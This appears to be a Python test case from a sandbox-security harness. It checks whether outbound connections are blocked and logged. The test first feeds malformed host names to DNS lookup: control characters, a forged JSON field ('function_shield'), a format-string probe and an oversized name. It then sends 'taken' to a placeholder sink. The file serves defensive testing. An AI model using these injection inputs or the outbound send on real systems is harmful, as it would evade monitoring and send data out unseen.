# class: events
# rule: outbound_connectivity
# success: a name with control characters, quotes, and five thousand letters is looked up, and a
#   connection goes out
# proof: sink
# needs: namespace
import socket

from attack import SINK, attempt


@attempt
def connect():
    for name in (
        b'a"b\\c\n{"function_shield":true}',
        b"x" * 5000,
        b"\xff\xfe.example",
        b"",
        b".",
        b"a..b",
        b"%s%n%p",
    ):
        try:
            socket.getaddrinfo(name, 443)
        except (OSError, ValueError):
            continue
    return socket.create_connection(SINK, 3).send(b"taken") == 5
